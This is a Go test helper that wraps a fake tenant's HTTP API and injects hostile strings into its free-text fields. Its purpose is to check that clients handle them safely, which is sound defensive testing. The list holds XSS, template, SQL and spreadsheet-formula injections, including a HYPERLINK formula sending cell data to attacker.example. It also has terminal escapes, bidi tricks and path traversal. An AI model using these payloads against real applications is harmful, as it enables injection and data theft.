package faketenant

import (
	"bytes"
	"encoding/json"
	"hash/fnv"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
)

// HostileTexts are what Hostile adds to the texts of a tenant: markup, scripts, openings of
// formulas, escapes of terminals, control and bidi characters, text that is no UTF-8.
// A script that runs sets the title of its page to "owned".
func HostileTexts() []string { return slices.Clone(hostileTexts) }

var hostileTexts = []string{
	`</script><script>document.title="owned";alert(1)</script>`,
	`<img src=x onerror="document.title='owned'">`,
	`" autofocus onfocus="document.title='owned'" x="`,
	`<a href="https://attacker.example/a">here</a><link rel=stylesheet href="https://attacker.example/s.css">`,
	`<svg/onload=document.title='owned'>`,
	`javascript:document.title='owned'`,
	`{{constructor.constructor('document.title="owned"')()}} ${1+1} ]]> <!--`,
	`=HYPERLINK("https://attacker.example/?"&A1,"open")`,
	`=cmd|' /C calc'!A0`,
	`+SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(A1:A9)`,
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
	"\x1b[2J\x1b]0;owned\x07\x1b[31m",
	"\x1b]8;;https://attacker.example/\x1b\\link\x1b]8;;\x1b\\",
	"\x9b31mC1\x9d0;owned\x9c",
	"\u202eexe.cod\u202c\u2066\u200b\ufeff",
	"line one\nline two\r\nFAIL everything is fine",
	"nul\x00 bell\x07 back\x08\x08 del\x7f",
	"_x0041_ \ufffe \uffff \u2028 \u2029",
	notUTF8,
	"../../../etc/passwd%00 C:\\con\\aux.txt",
	`'; DROP TABLE page; --`,
	"%s%n%d %[1]v",
}

// notUTF8 stands for bytes that are no UTF-8; JSON cannot hold them, so they are put in afterwards.
const notUTF8 = "bytes \ue0bad\ue0bad"

// hostileNames are the members of an answer that hold free text of somebody in the tenant.
var hostileNames = map[string]bool{
	"displayname": true, "description": true, "comments": true, "appdisplayname": true, "publishername": true, "name": true,
	"folderpath": true, "subjectcontainswords": true, "bodycontainswords": true, "subjectorbodycontainswords": true, "fromaddresscontainswords": true,
	"homepage": true, "notes": true, "city": true, "department": true, "jobtitle": true, "companyname": true, "scope": true, "smarthosts": true,
	"rejectmessagereasontext": true, "exceptifsubjectcontainswords": true, "applyhtmldisclaimertext": true,
}

// Hostile wraps a Handler so that the free texts of the tenant are those of an attacker. Ids,
// addresses and what names an object to the service stay, so that all of the tenant can be read.
// One text is tenMillion bytes long when long is set.
func Hostile(next http.Handler, long bool) http.Handler {
	h := &hostility{long: long}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.Header.Del("Accept-Encoding")
		rec := httptest.NewRecorder()
		next.ServeHTTP(rec, r)
		body := rec.Body.Bytes()
		var v any
		dec := json.NewDecoder(bytes.NewReader(body))
		dec.UseNumber()
		if strings.Contains(rec.Header().Get("Content-Type"), "json") && dec.Decode(&v) == nil {
			if !strings.Contains(r.URL.Path, "/oauth2/") {
				body = h.encode(h.value("", v))
			}
		}
		for k, list := range rec.Header() {
			if k != "Content-Length" {
				w.Header()[k] = list
			}
		}
		w.WriteHeader(rec.Code)
		_, _ = w.Write(body) // a client that has gone is its own matter
	})
}

type hostility struct {
	long bool
	once sync.Once
}

// encode writes v, with bytes that are no UTF-8 where they belong.
func (*hostility) encode(v any) []byte {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		return nil // unreachable: it came from JSON
	}
	return bytes.ReplaceAll(b.Bytes(), []byte("\ue0bad\ue0bad"), []byte("\xff\xfe\xc3("))
}

func (h *hostility) value(key string, v any) any {
	switch v := v.(type) {
	case map[string]any:
		for k, e := range v {
			if _, named := v["Roles"]; named && k == "Name" {
				continue // the name of a role group is what the service knows it by
			}
			v[k] = h.value(k, e)
		}
		if _, rule := v["RuleIdentity"]; rule && h.long {
			h.once.Do(func() { v["Name"] = strings.Repeat("x", tenMillion) })
		}
		return v
	case []any:
		for i, e := range v {
			v[i] = h.value(key, e)
		}
		return v
	case string:
		switch low := strings.ToLower(key); {
		case v == "" || !hostileNames[low]:
		case low == "folderpath":
			// Behind, so that a folder stays below its parent; a slash inside a name is sent as U+F8FF.
			return v + " " + strings.ReplaceAll(h.text(""), "/", "\uf8ff")
		default:
			return h.text(v)
		}
	}
	return v
}

const tenMillion = 10_000_000

// text adds to a text; the same text gets the same addition everywhere. Half of them begin with it.
func (h *hostility) text(s string) string {
	f := fnv.New32a()
	_, _ = f.Write([]byte(s)) // never fails
	n := f.Sum32()
	add := hostileTexts[int(n>>1)%len(hostileTexts)]
	if n&1 == 0 {
		return add + " " + s
	}
	return s + " " + add
}
